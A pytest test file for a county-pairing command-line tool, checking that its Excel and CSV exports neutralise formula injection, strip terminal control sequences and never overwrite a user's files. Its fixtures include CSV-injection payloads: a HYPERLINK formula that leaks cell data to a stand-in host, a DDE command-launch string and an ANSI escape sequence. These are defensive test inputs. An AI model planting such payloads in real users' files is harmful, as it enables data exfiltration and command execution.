"""Nothing a file can do to the user, outside the pages: no live formula in a workbook we
write, CSV for Excel on request, a person's file never replaced without --force, no input
written over, and any console."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest

from geo.errors import GeoError

from .conftest import LAYERS, run_cli, run_process

#: text a spreadsheet would run (OWASP's list: = + - @ tab CR at the start)
FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"点此查看")',
    "=1+1",
    "+86 571 8888 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]
#: the same for whitespace our readers strip at the edges of a cell: tested through the writer
EDGES = ["\t=1+1", "\r=1+1", "a\r\nb\tc"]


@pytest.fixture(scope="module")
def formula_pairings(tmp_path_factory):
    """The embedded pairings, their notes and rounds replaced by formula-like text."""
    p = pd.read_csv(LAYERS / "pairings.csv", dtype=str, keep_default_na=False)
    p.loc[: len(FORMULAS) - 1, "note"] = FORMULAS
    p.loc[: len(FORMULAS) - 1, "round"] = FORMULAS[::-1]
    path = tmp_path_factory.mktemp("formulas") / "pairings.csv"
    p.to_csv(path, index=False)
    return path


# ---------------------------------------------------------------------------------------
# the workbook: text stays text
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def formula_workbook(formula_pairings):
    path = formula_pairings.with_name("结对表.xlsx")
    r = run_cli("template", path, "--pairings", formula_pairings, "--table", "pairings")
    assert r.returncode == 0, r.stderr
    return path


def test_workbook_holds_no_formula(formula_workbook):
    with zipfile.ZipFile(formula_workbook) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)


def test_formula_text_reads_back_exactly(formula_workbook):
    from openpyxl import load_workbook

    ws = load_workbook(formula_workbook)["结对"]
    head = [c.value for c in ws[1]]
    notes = [row[head.index("备注")] for row in ws.iter_rows(min_row=2, max_row=len(FORMULAS) + 1)]
    assert [c.value for c in notes] == FORMULAS
    assert all(c.data_type == "s" for c in notes)
    # marked as typed with an apostrophe: Excel keeps it text when the cell is edited
    assert all(c.quotePrefix for c in notes)
    plain = next(row[head.index("山区县")] for row in ws.iter_rows(min_row=2, max_row=2))
    assert plain.data_type == "s" and not plain.quotePrefix


def test_formula_text_round_trips_through_the_readers(formula_pairings, formula_workbook):
    from geo.tables import read_pairings

    src, back = read_pairings(formula_pairings), read_pairings(formula_workbook)
    assert back.errors == []
    pd.testing.assert_frame_equal(src.table, back.table)
    assert set(FORMULAS) <= set(back.table["note"]) and set(FORMULAS) <= set(back.table["round"])


def test_edge_whitespace_and_control_characters_in_the_workbook(tmp_path):
    from openpyxl import load_workbook

    from geo.tables import read_pairings
    from geo.template import write_template

    table = read_pairings().table.copy()
    values = [*EDGES, "bell\x07here"]
    table.loc[: len(values) - 1, "note"] = values
    path = write_template(tmp_path / "p.xlsx", ["pairings"], {"pairings": table})
    ws = load_workbook(path)["结对"]
    col = [c.value for c in ws[1]].index("备注") + 1
    got = [ws.cell(row=i + 2, column=col).value for i in range(len(values))]
    assert got[: len(EDGES)] == EDGES  # exactly, tab and CR included
    assert got[-1] == "bell\ufffdhere"  # a workbook cannot hold BEL: marked, not a crash
    assert ws.cell(row=2, column=col).quotePrefix and ws.cell(row=2, column=col).data_type == "s"
    # our readers strip whitespace at a cell's edges, from any file, as they always have
    assert list(read_pairings(path).table["note"][: len(EDGES)]) == [v.strip() for v in EDGES]


def test_control_characters_in_a_table_are_removed_and_reported(tmp_path):
    from geo.tables import read_pairings

    p = pd.read_csv(LAYERS / "pairings.csv", dtype=str, keep_default_na=False)
    p.loc[0, "note"] = "\x1b[2J\x1b]0;pwned\x07清屏"
    p.to_csv(tmp_path / "p.csv", index=False)
    res = read_pairings(tmp_path / "p.csv")
    assert res.table.loc[0, "note"] == "[2J]0;pwned清屏"
    [rep] = [p for p in res.problems if p.severity == "repair"]
    assert rep.where == "row 2" and rep.column == "note" and "control characters" in rep.what


# ---------------------------------------------------------------------------------------
# CSV: faithful by default, for Excel on request
# ---------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pairs_csv(formula_pairings):
    plain = run_cli("pairs", "--format", "csv", "--pairings", formula_pairings)
    safe = run_cli("pairs", "--format", "csv", "--excel-safe", "--pairings", formula_pairings)
    assert plain.returncode == 0 and safe.returncode == 0, plain.stderr + safe.stderr
    return plain.stdout, safe.stdout


def test_plain_csv_keeps_the_data_exactly(pairs_csv, formula_pairings):
    from geo.tables import read_pairings

    rows = list(csv.DictReader(io.StringIO(pairs_csv[0])))
    assert not pairs_csv[0].startswith("\ufeff")
    rounds = {r["round"] for r in rows}
    table = read_pairings(formula_pairings).table
    expected = set(table.loc[table["partner"] != "", "round"])
    assert set(FORMULAS) & expected and set(FORMULAS) & expected <= rounds


def test_excel_safe_csv_disarms_formulas_only(pairs_csv):
    plain = list(csv.DictReader(io.StringIO(pairs_csv[0])))
    text_ = pairs_csv[1]
    assert text_.startswith("\ufeff")  # Excel reads the file as UTF-8
    safe = list(csv.DictReader(io.StringIO(text_.removeprefix("\ufeff"))))
    assert len(safe) == len(plain)
    changed = 0
    for a, b in zip(plain, safe, strict=True):
        for k in a:
            if a[k].startswith(("=", "+", "-", "@")) and not a[k].lstrip("+-").replace(".", "", 1).isdigit():
                assert b[k] == "'" + a[k]
                changed += 1
            else:
                assert b[k] == a[k], k  # numbers (also negative ones), names, sources untouched
    assert changed >= 4  # the rounds of the pairings that have a partner


def test_excel_safe_file_of_gaps_keeps_negative_numbers(tmp_path, registry):
    data = tmp_path / "变化.csv"  # a change that is negative everywhere
    pd.DataFrame({"县": [c.name for c in registry.counties.values()], "人口变化": "-1,234.5"}).to_csv(data, index=False)
    out = tmp_path / "gaps.csv"
    r = run_cli("gaps", "--data", data, "--column", "人口变化", "-o", out, "--excel-safe")
    assert r.returncode == 0, r.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    values = [r[k] for r in rows for k in ("mountain_value", "partner_value") if r[k]]  # a zone has none
    assert len(values) > 40 and set(values) == {"-1234.5"}
    assert "'" not in raw.decode("utf-8-sig")
    r = run_cli("pairs", "--excel-safe")
    assert r.returncode == 2 and "--excel-safe goes with --format csv" in r.stderr


def test_csv_cells():
    from geo.commands.options import format_rows

    def cell(v, excel_safe=True):  # the one cell of a one-row CSV
        text_ = format_rows([{"v": v}], ["v"], "csv", excel_safe=excel_safe).removeprefix("\ufeff")
        return list(csv.reader(io.StringIO(text_, newline="")))[1][0]

    for v in [*EDGES, "a\rb", '"quoted", and more']:  # a CR alone is quoted too: the row holds
        assert cell(v, excel_safe=False) == v

    for v in [*FORMULAS, "\t=1", "\r=1"]:
        assert cell(v) == "'" + v
    for v in ["-3.5", "+12", "1e5", "-2E-3", "景宁", "a=b", ""]:
        assert cell(v) == v
    assert cell(-3.5) == "-3.5" and cell(None) == ""


# ---------------------------------------------------------------------------------------
# a person's file, and the command's own inputs
# ---------------------------------------------------------------------------------------


def test_template_never_replaces_a_workbook_without_force(tmp_path):
    path = tmp_path / "结对表.xlsx"
    path.write_bytes(b"an hour of a planner's corrections")
    r = run_cli("template", path)
    assert r.returncode == 2 and "--force" in r.stderr and str(path) in r.stderr
    assert path.read_bytes() == b"an hour of a planner's corrections"
    r = run_cli("template", path, "--force")
    assert r.returncode == 0, r.stderr
    assert zipfile.is_zipfile(path)


def test_write_template_refuses_in_python_too(tmp_path):
    from geo.template import write_template

    path = tmp_path / "status.xlsx"
    write_template(path, ["status"])
    before = path.read_bytes()
    with pytest.raises(GeoError, match=r"`force=True`"):
        write_template(path, ["status"])
    assert path.read_bytes() == before
    write_template(path, ["status"], force=True)


def test_a_workbook_that_appears_while_writing_is_kept(tmp_path, monkeypatch):
    from openpyxl import Workbook

    from geo.template import write_template

    path = tmp_path / "coverage.xlsx"
    save = Workbook.save

    def save_while_someone_else_saves(self, filename):
        save(self, filename)
        path.write_text("saved by someone else meanwhile")

    monkeypatch.setattr(Workbook, "save", save_while_someone_else_saves)
    with pytest.raises(GeoError, match=r"`force=True`"):
        write_template(path, ["coverage"])
    assert path.read_text() == "saved by someone else meanwhile"
    assert [p.name for p in tmp_path.iterdir()] == ["coverage.xlsx"]  # no temporary file left


def test_output_over_an_input_is_refused(tmp_path):
    data = tmp_path / "统计.csv"
    pd.DataFrame({"县": ["景宁", "庆元"], "人均GDP": ["1", "2"]}).to_csv(data, index=False)
    before = data.read_bytes()
    r = run_cli("gaps", "--data", data, "--column", "人均GDP", "-o", data)
    assert r.returncode == 2 and "--data" in r.stderr and "replace your input" in r.stderr
    assert data.read_bytes() == before
    pairings = tmp_path / "pairings.xlsx"
    assert run_cli("template", pairings).returncode == 0
    before = pairings.read_bytes()
    r = run_cli("template", pairings, "--pairings", pairings, "--force")
    assert r.returncode == 2 and "--pairings" in r.stderr
    assert pairings.read_bytes() == before


# ---------------------------------------------------------------------------------------
# any console
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_console_without_chinese(encoding):
    env = {"PYTHONIOENCODING": encoding}
    r = run_process("pairs", env=env)
    assert r.returncode == 0 and "internal error" not in r.stderr
    assert "\\u666f\\u5b81" in r.stdout  # 景宁, written so that it can still be read
    r = run_process("pairs", "--county", "嵊泗", env=env)
    assert r.returncode == 2 and "Fix: add --edition 2025." in r.stderr  # exit codes unchanged
